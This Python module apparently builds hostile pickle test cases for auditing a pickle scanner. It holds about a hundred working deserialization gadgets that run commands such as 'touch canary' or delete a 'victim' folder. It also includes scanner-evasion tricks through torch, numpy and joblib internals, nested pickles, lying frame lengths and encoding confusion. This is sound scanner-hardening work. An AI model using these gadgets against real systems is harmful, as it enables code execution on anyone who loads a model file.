"""Pickles that do something when they are opened, made here and never stored. Each is shown to fire by
tools/fire_hostile.py, in an empty folder and without rights; the audit may call none of them harmless.

What fires leaves a file named "canary" in its folder, or removes the folder "victim". The first part is public: gadgets
of advisories against scanners. The second was written against our own tables and source: helpers that call methods of
what they get, states that shadow methods, bytes that change after they were looked at."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from dataclasses import dataclass

TOUCH = "touch canary"
PYTHON = "open('canary', 'w').close()"


# ---- an assembler ----

def text(word: str) -> bytes:
    data = word.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def name(dotted: str) -> bytes:
    """"module:name": by STACK_GLOBAL, which follows dots."""
    module, _, rest = dotted.partition(":")
    return text(module) + text(rest) + b"\x93"


def tuple_of(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def list_of(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def table(pairs: dict[str, bytes]) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in pairs.items()) + b"u"


def call(function: str, *args: bytes) -> bytes:
    return name(function) + tuple_of(*args) + b"R"


def new(kind: str, *args: bytes) -> bytes:
    return name(kind) + tuple_of(*args) + b"\x81"


def built(thing: bytes, state: bytes) -> bytes:
    return thing + state + b"b"


def whole(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def namespace(**values: bytes) -> bytes:
    return built(new("argparse:Namespace"), table(values))


HANDLER = "logging:FileHandler"  # opens a file for writing; a name that the tables know, not a notorious one
OPENS = call("functools:partial", name(HANDLER), text("canary"), text("a"))  # takes up to three more
TOUCHES = call("functools:partial", name("pathlib:Path.touch"), call("pathlib:PosixPath", text("canary")))  # gives None


@dataclass(frozen=True)
class Case:
    data: bytes
    reader: str = "pickle"  # or "torch", "joblib"
    needs: str = ""  # a library that must be there for it to fire
    fires: bool = True  # False: it can't be shown here (another Python, memory, only later); the reason is beside it


def simple(function: str, *args: bytes, needs: str = "", fires: bool = True) -> Case:
    return Case(whole(call(function, *args)), needs=needs or function.partition(":")[0].partition(".")[0], fires=fires)


def zipped(data: bytes, *more: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for member, content in (("archive/data.pkl", data), ("archive/version", b"3\n"), *more):
            file.writestr(zipfile.ZipInfo(member), content)
    return out.getvalue()


# ---- public gadgets ----

def public() -> dict[str, Case]:
    run, code = text(TOUCH), text(PYTHON)
    setup = text("import os")
    return {
        "os_system": simple("os:system", run),
        "posix_system": simple("posix:system", run),
        "subprocess_popen": simple("subprocess:Popen", text("touch canary"), b"J\xff\xff\xff\xff", b"N", b"N", b"N",
                                   b"N", b"N", b"\x88", b"\x88"),
        "subprocess_getoutput": simple("subprocess:getoutput", run),
        "eval": simple("builtins:eval", code),
        "exec": simple("builtins:exec", code),
        "open": simple("builtins:open", text("canary"), text("w")),
        "io_fileio": simple("io:FileIO", text("canary"), text("w")),
        "codecs_open": simple("codecs:open", text("canary"), text("w")),
        "timeit": simple("timeit:timeit", code, text("pass"), name("time:perf_counter"), integer(1)),
        "timeit_main": simple("timeit:main", list_of(text("-n1"), text("-r1"), code)),
        "cprofile": simple("cProfile:run", code),
        "cprofile_ctx": simple("cProfile:runctx", code, b"}", b"}"),
        "profile": simple("profile:run", code),
        "pydoc_pipepager": simple("pydoc:pipepager", text("x"), run),
        "pydoc_tempfilepager": simple("pydoc:tempfilepager", text("x"), run),
        "code_interact": Case(whole(call("builtins:getattr", call("code:InteractiveInterpreter"), text("runcode")) +
                                    tuple_of(call("builtins:compile", code, text("x"), text("exec"))) + b"R")),
        "bdb_run": Case(whole(name("bdb:Bdb.run") + tuple_of(call("bdb:Bdb"), code) + b"R")),
        "pdb_run": simple("pdb:run", code, fires=False),  # asks for input
        "trace_run": Case(whole(name("trace:Trace.run") + tuple_of(call("trace:Trace"), code) + b"R")),
        "doctest": simple("doctest:debug_script", text(PYTHON), b"\x89", b"}", fires=False),  # a debugger asks
        "lib2to3": simple("lib2to3.pgen2.pgen:ParserGenerator", text("nothing"), fires=False),  # reads
        "lib2to3_grammar": simple("lib2to3.pgen2.grammar:Grammar.load", call("lib2to3.pgen2.grammar:Grammar"),
                                  text("nothing"), fires=False),
        "idlelib_run": Case(whole(name("idlelib.run:Executive.runcode") + tuple_of(
            namespace(locals=b"}"), text(PYTHON)) + b"R"), needs="idlelib", fires=False),  # needs its window
        "idlelib_calltip": simple("idlelib.calltip:get_entity", code, needs="tkinter"),
        "idlelib_autocomplete": Case(whole(name("idlelib.autocomplete:AutoComplete.get_entity") + tuple_of(
            b"N", code) + b"R"), needs="tkinter"),
        "ensurepip": simple("ensurepip:_run_pip", list_of(text("--version")), fires=False),  # ends the process
        "distutils": simple("distutils.file_util:write_file", text("canary"), list_of(text("x"))),
        "distutils_spawn": simple("distutils.spawn:spawn", list_of(text("touch"), text("canary"))),
        "test_support": simple("test.support.script_helper:assert_python_ok", text("-c"), code, fires=False),
        "asyncio_unix": Case(whole(name("asyncio.unix_events:_UnixSubprocessTransport._start") + tuple_of(
            namespace(), run, b"\x88", b"N", b"N", b"N", b"K\x00") + b"R"), fires=True),
        "runpy": simple("runpy:_run_code", code, b"}"),
        "pkgutil_resolve": Case(whole(call("pkgutil:resolve_name", text("os:system")) + tuple_of(run) + b"R")),
        "importlib": Case(whole(call("builtins:getattr", call("importlib:import_module", text("os")), text("system")) +
                                tuple_of(run) + b"R")),
        "reduce": Case(whole(call("functools:reduce", name("builtins:getattr"), list_of(
            call("importlib:import_module", text("os")), text("system"))) + tuple_of(run) + b"R")),
        "methodcaller": Case(whole(call("operator:methodcaller", text("system"), run) + tuple_of(
            call("builtins:__import__", text("os"))) + b"R")),
        "attrgetter": Case(whole(call("operator:attrgetter", text("system")) + tuple_of(
            call("builtins:__import__", text("os"))) + b"R" + tuple_of(run) + b"R")),
        "operator_call": simple("operator:call", name("os:system"), run),
        "map": simple("builtins:list", call("builtins:map", name("os:system"), list_of(run))),
        "starmap": simple("builtins:list", call("itertools:starmap", name("os:system"), list_of(tuple_of(run)))),
        "accumulate": simple("builtins:list", call("itertools:accumulate", list_of(text("canary"), text("w")),
                                                   name(HANDLER))),
        "function_type": Case(whole(call("types:FunctionType", call("builtins:compile", code, text("x"), text(
            "exec")), b"}") + b")R")),
        "types_code": Case(whole(call("types:FunctionType", call("marshal:loads", raw(_marshalled())), b"}") + b")R")),
        "pickle_loads": simple("pickle:loads", raw(whole(call("os:system", run)))),
        "numpy_f2py": simple("numpy.f2py.crackfortran:param_eval", code, b"}", b"}", b"N", needs="numpy", fires=False),
        "numpy_runstring": simple("numpy.testing._private.utils:runstring", code, b"}", needs="numpy"),
        "numpy_rundocs": simple("numpy.testing:rundocs", text("nothing.py"), needs="numpy", fires=False),
        # older versions of torch have these
        "torch_bottleneck": simple("torch.utils.bottleneck.__main__:run_cprofile", code, b"}", fires=False),
        "torch_bottleneck_autograd": simple("torch.utils.bottleneck.__main__:run_autograd_prof", code, b"}",
                                            fires=False),
        "torch_collect_env": simple("torch.utils.collect_env:run", run, needs="torch"),
        "torch_config": simple("torch.utils._config_module:load_config", raw(b""), needs="torch", fires=False),
        "torch_exec_wrapper": simple("torch.jit.unsupported_tensor_ops:execWrapper", code, b"}", b"}", needs="torch"),
        "torch_code_cache": simple("torch._inductor.codecache:PyCodeCache.load", code, needs="torch"),
        "torch_execsource": simple("torch.fx.graph_module:_exec_with_source", code, b"}", needs="torch"),
        "torch_hub": simple("torch.hub:_get_torch_home", needs="torch", fires=False),  # reads the environment
        "ssl": simple("ssl:get_server_certificate", tuple_of(text("127.0.0.1"), integer(9)), fires=False),
        "urllib": simple("urllib.request:urlopen", text("file:///etc/hostname"), fires=False),
        "shutil": simple("shutil:rmtree", text("victim")),
        "pathlib": simple("pathlib:Path.write_text", call("pathlib:Path", text("canary")), text("x")),
        "zipfile": simple("zipfile:ZipFile", text("canary"), text("w")),
        "tarfile": simple("tarfile:open", text("canary"), text("w")),
        "sqlite": simple("sqlite3:connect", text("canary")),
        "logging_config": simple("logging.config:_resolve", text("os.system"), fires=False),
        "logging_handler": simple(HANDLER, text("canary")),
        "linecache": simple("linecache:getlines", text("/etc/hostname"), fires=False),
        "aix": simple("_aix_support:_read_cmd_output", text("touch canary"), fires=False),  # newer Pythons
        "osx": simple("_osx_support:_read_output", run),
        "pyrepl": simple("_pyrepl.pager:pipe_pager", text("x"), run, fires=False),  # Python 3.13
        "inst": Case(b"(S'touch canary'\nios\nsystem\n."),
        "obj": Case(b"(cos\nsystem\nS'touch canary'\no."),
        "python2_names": Case(b"c__builtin__\nreduce\n(c__builtin__\ngetattr\n]c__builtin__\n__import__\n(S'os'\ntRa"
                              b"S'system'\natRS'touch canary'\n\x85R."),
        "python2_imap": Case(b"c__builtin__\nlist\n(citertools\nimap\n(cos\nsystem\n]S'touch canary'\natRtR."),
        "python2_commands": Case(b"ccommands\ngetoutput\n(S'touch canary'\ntR."),
        "computed_name": Case(b"\x80\x04" + call("builtins:str", raw(b"os"), text("ascii")) + text("system") +
                              b"\x93" + tuple_of(run) + b"R."),
        "memo_name": Case(b"\x80\x04" + text("os") + b"\x94" + text("x") + b"00h\x00" + text("system") + b"\x93" +
                          tuple_of(run) + b"R."),
        "second_pickle": Case(b"\x80\x02}." + whole(call("os:system", run)), reader="twice"),
        "frame_lie": Case(b"\x80\x04\x95" + struct.pack("<Q", 3) + call("os:system", run) + b"."),
        "thrown_away": Case(b"\x80\x04" + call("os:system", run) + b"0}."),
        "extension": Case(b"\x80\x04" + call("copyreg:add_extension", text("os"), text("system"), integer(5)) +
                          b"0\x82\x05" + tuple_of(run) + b"R."),
        "registered": Case(b"\x80\x04" + call("copyreg:pickle", name("os:system"), name("os:system")) + b"0N.",
                           fires=False),  # changes the process only
        "setattr": Case(whole(call("builtins:setattr", name("builtins:object"), text("x"), name("os:system"))),
                        fires=False),
        "atexit": simple("atexit:register", name("os:system"), run),
        "thread": simple("_thread:start_new_thread", name("os:system"), tuple_of(run), fires=False),  # ends first
        "threading_timer": Case(whole(name("threading:Timer.run") + tuple_of(call(
            "threading:Timer", b"K\x00", name("os:system"), list_of(run))) + b"R")),
        "signal": simple("signal:signal", integer(10), name("os:abort"), fires=False),
        "ctypes": simple("ctypes:CDLL", b"N", fires=False),
        "multiprocessing": simple("multiprocessing.util:spawnv_passfds", raw(b"/bin/touch"), list_of(
            raw(b"touch"), raw(b"canary")), tuple_of()),
        "webbrowser": Case(whole(name("webbrowser:GenericBrowser.open") + tuple_of(call(
            "webbrowser:GenericBrowser", list_of(text("touch"), text("%s"))), text("canary")) + b"R")),
        "imp": simple("imp:load_source", text("m"), text("nothing.py"), fires=False),
        "uuid_find": simple("uuid:_get_command_stdout", text("true"), fires=False),
        "platform": simple("platform:_syscmd_ver", fires=False),
        "smtplib": simple("smtplib:SMTP", text("127.0.0.1"), integer(9), fires=False),
    }


def _marshalled() -> bytes:
    import marshal
    return marshal.dumps(compile(PYTHON, "x", "exec"))


# ---- against our own source ----

WRAPPER = "torch.utils.data.datapipes.datapipe:_IterDataPipeSerializationWrapper"  # __setstate__ unpickles
STATE = tuple_of(raw(whole(call("os:system", text(TOUCH)))), b"\x89")
LAZY = built(new("torch._logging._internal:LazyString"), table({  # __str__ calls
    "func": name("pathlib:Path.touch"), "args": tuple_of(call("pathlib:PosixPath", text("canary"))), "kwargs": b"}"}))
PLAIN_STATE = tuple_of(raw(whole(b"N")), b"\x89")
QUIET_MODULE = "torch.nn.modules.linear:Identity"


def own() -> dict[str, Case]:
    cases = {
        # copyreg._reconstructor(class, base, state): base.__init__(object, state) runs, too
        "reconstructor_base": simple("copyreg:_reconstructor", name(HANDLER), name(HANDLER), text("canary")),
        "reconstructor_old": Case(b"ccopy_reg\n_reconstructor\n(clogging\nFileHandler\nclogging\nFileHandler\n"
                                  b"S'canary'\ntR."),
        # methods of arguments, found on a namespace
        "uuid_replace": simple("uuid:UUID", namespace(replace=OPENS)),
        "dict_keys": simple("builtins:dict", namespace(keys=OPENS)),
        "ordered_keys": simple("collections:OrderedDict", namespace(keys=OPENS)),
        "dict_keys_module": simple("builtins:dict", built(new(QUIET_MODULE), table({
            "training": b"\x88", "_parameters": b"}", "_buffers": b"}", "_modules": b"}", "keys": OPENS})),
            needs="torch"),
        "simple_namespace_keys": simple("builtins:dict", built(new("types:SimpleNamespace"), table({"keys": OPENS}))),
        "fraction_ratio": simple("fractions:Fraction", namespace(as_integer_ratio=OPENS), fires=False),  # 3.12
        "parameter_detach": simple("torch.nn.parameter:Parameter", namespace(detach=OPENS), needs="torch"),
        "parameter_new": Case(whole(new("torch.nn.parameter:Parameter", namespace(detach=OPENS))), needs="torch"),
        "rebuild_parameter": simple("torch._utils:_rebuild_parameter", namespace(detach=OPENS), b"\x89", b"}",
                                    needs="torch"),
        "rebuild_parameter_state": simple("torch._utils:_rebuild_parameter_with_state", namespace(detach=OPENS),
                                          b"\x89", b"}", b"}", needs="torch"),
        "rebuild_device_tensor": simple("torch._utils:_rebuild_device_tensor_from_cpu_tensor", namespace(to=OPENS),
                                        b"N", b"N", b"\x89", needs="torch", fires=False),  # passes keywords
        # arguments that are not in a tuple: Python's own unpickler, which joblib uses, takes any iterable
        "argument_list": Case(whole(name("uuid:UUID") + list_of(namespace(replace=OPENS)) + b"R"), reader="python"),
        # _rebuild_from_type_v2(function, class, args, state): the state goes to __setstate__
        "rebuild_type_state": simple("torch._tensor:_rebuild_from_type_v2", name(WRAPPER), name(WRAPPER), tuple_of(
            b"N"), STATE, needs="torch"),
        "rebuild_type_build": Case(whole(call("torch._tensor:_rebuild_from_type_v2", name(WRAPPER), name(WRAPPER),
                                              tuple_of(b"N"), PLAIN_STATE) + STATE + b"b"), needs="torch"),
        # special methods of objects, run by Python's own constructors
        **special_methods(),
        # bytes that are not what they were
        **changed_bytes(),
        # torch's reader does this and that with a persistent id
        "persistent_key": Case(zipped(whole(b"(" + text("storage") + name("torch:FloatStorage") + LAZY + text("cpu") +
                                            b"K\x01tQ"), ("archive/data/0", bytes(4))), reader="torch",
                               needs="torch"),
        "defaultdict_slot": Case(whole(built(new("collections:defaultdict"), tuple_of(b"N", table({
            "default_factory": OPENS})))), reader="item"),
        "torch_dtype_factory": Case(whole(call("collections:defaultdict", OPENS)), reader="item"),
        # values are plain only if all in them is
        "value_with_namespace": simple("pandas.core.indexes.base:_new_Index", name("pandas:Index"), table({
            "data": namespace(dtype=b"N", astype=OPENS, copy=OPENS)}), fires=False),  # which method is called varies
        "value_names_file": simple("pandas:DatetimeTZDtype", text("ns"), text("dateutil//etc/hostname"),
                                   fires=False),  # reads a file
        "datasource_del": Case(whole(built(new("numpy.lib._datasource:DataSource"), table({
            "_istmpdest": b"\x88", "_destpath": text("victim")}))), needs="numpy"),
        "wrapper_state": Case(whole(built(new(WRAPPER), STATE)), needs="torch"),
        "getattr_called": Case(whole(call("builtins:getattr", name(HANDLER), text("setStream")) + tuple_of(
            b"N", b"N") + b"R"), fires=False),
        "joblib_frame": Case(joblib_frame(), reader="joblib", needs="joblib"),
        "dtype_flags": Case(dtype_flags(), needs="numpy", reader="crash"),
    }
    return cases


def special_methods() -> dict[str, Case]:
    """An iterator whose __next__ calls what it holds, a text whose __str__ does: list() and its like run these."""
    loud = built(new("torch._dynamo.polyfills.builtins:_CallableIterator"), table({
        "fn": TOUCHES, "sentinel": b"N", "exhausted": b"\x89"}))
    lazy = LAZY
    cases = {f"special_{kind}": simple(f"{module}:{kind}", loud, needs="torch") for module, kind in (
        ("builtins", "list"), ("builtins", "tuple"), ("builtins", "set"), ("builtins", "frozenset"),
        ("collections", "deque"), ("collections", "OrderedDict"), ("collections", "Counter"))}
    return cases | {
        "special_dict_list": simple("builtins:dict", list_of(loud), needs="torch"),
        "special_torch_size": simple("torch:Size", loud, needs="torch"),
        "special_bytes": simple("builtins:bytes", loud, needs="torch"),
        "special_array": simple("array:array", text("b"), loud, needs="torch"),
        "special_new_tuple": Case(whole(new("builtins:tuple", loud)), needs="torch"),
        "special_reconstructor": Case(whole(call("copyreg:_reconstructor", name("builtins:list"), name(
            "builtins:list"), loud)), needs="torch"),
        "special_str": simple("builtins:str", lazy, needs="torch"),
        "special_str_new": Case(whole(new("builtins:str", lazy)), needs="torch"),
        "special_keywords": Case(whole(name("builtins:str") + b")" + table({"object": lazy}) + b"\x92"), needs="torch"),
        "special_in_list": simple("builtins:str", list_of(loud, lazy), needs="torch", fires=False),  # repr only
        "special_unknown_result": simple("builtins:str", call("torch._logging._internal:LazyString", name(
            "pathlib:Path.touch"), call("pathlib:PosixPath", text("canary"))), needs="torch"),
    }


def changed_bytes() -> dict[str, Case]:
    """Nested pickles: torch.storage._load_from_bytes unpickles what it gets."""
    load, run = "torch.storage:_load_from_bytes", text(TOUCH)
    hostile = whole(call("os:system", run), 2)
    size = len(hostile)
    zeros = b"\x80\x02}." + bytes(size - 4)
    pairs = b"(" + b"".join(integer(i) + integer(byte) for i, byte in enumerate(hostile)) + b"u"
    numbers = list_of(*(integer(byte) for byte in zeros))
    shifted = hidden_in_latin1()
    cases = {
        "list_items_set": call("builtins:bytes", numbers + pairs),
        "bytearray_items_set": b"\x96" + struct.pack("<Q", size) + zeros + pairs,
        "bytearray_extended": b"\x96" + struct.pack("<Q", 0) + b"(" + b"".join(map(integer, hostile)) + b"e",
        "bytearray_call_extended": call("builtins:bytearray", raw(zeros[:0])) + b"(" + b"".join(
            map(integer, hostile)) + b"e",
        "latin1_twice": call("_codecs:encode", call("__builtin__:str", raw(shifted), text("latin1")), text("latin1")),
        "escaped_backslash": call("_codecs:encode", b"V" + hidden_in_escapes() + b"\n", text("latin1")),
    }
    made = {f"nested_{kind}": Case(b"\x80\x02" + name_2(load) + b"(" + body + b"tR.", needs="torch")
            for kind, body in cases.items()}
    later = zipped(hostile)
    harmless = zipped(b"\x80\x02}.")
    body = list_of(*(integer(byte) for byte in later)) + b"q\x00" + b"0" + name(load) + b"(" + name(
        "builtins:bytes") + b"(h\x00tRtR0h\x00(" + b"".join(integer(byte) for byte in harmless) + b"e"
    return made | {"nested_list_grows": Case(whole(body), needs="torch")}


def name_2(dotted: str) -> bytes:
    module, _, rest = dotted.partition(":")
    return f"c{module}\n{rest}\n".encode()


def hidden_in_latin1() -> bytes:
    """A pickle for readers that take each byte as a letter; another one for those that take them as UTF-8, where the
    length of the bytes before it reaches over all that runs."""
    run = b"0cos\nsystem\n(S'touch canary'\ntR"
    return b"C" + bytes([2 * len(run)]) + b"\xc3\xa9" * len(run) + run + b"."


def hidden_in_escapes() -> bytes:
    """raw-unicode-escape: two backslashes before u000a are no newline, so that the text V goes on."""
    return b"Vx\\\\u000a.\\u000a0cos\\u000asystem\\u000a(S'touch canary'\\u000atR."


def joblib_frame() -> bytes:
    """joblib takes an array's bytes from the file, behind the frame that is being read: not behind the opcode."""
    wrapper = new("joblib.numpy_pickle:NumpyArrayWrapper") + table({
        "subclass": name("numpy:ndarray"), "shape": tuple_of(b"K\x08"), "order": text("C"),
        "dtype": call("numpy:dtype", text("u1")), "allow_mmap": b"\x89"}) + b"b"
    inside = wrapper + b"0N0"
    array = b"N." + b"\x00" * 3 + b"0N."  # 8 bytes
    return b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + array + call("os:system", text(TOUCH)) + b"."


def dtype_flags() -> bytes:
    """A dtype of objects that says it has none: the bytes of the array become pointers."""
    dtype = call("numpy:dtype", text("O8"), b"\x89", b"\x88") + tuple_of(
        b"K\x03", text("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00") + b"b"
    array = call("numpy._core.multiarray:_reconstruct", name("numpy:ndarray"), tuple_of(b"K\x00"), raw(b"b"))
    return whole(call("builtins:str", array + tuple_of(
        b"K\x01", tuple_of(b"K\x01"), dtype, b"\x89", raw(b"A" * 8)) + b"b"))


def cases() -> dict[str, Case]:
    return {f"public_{key}": case for key, case in public().items()} | {f"own_{key}": case
                                                                         for key, case in own().items()}


assert pickle.HIGHEST_PROTOCOL >= 4
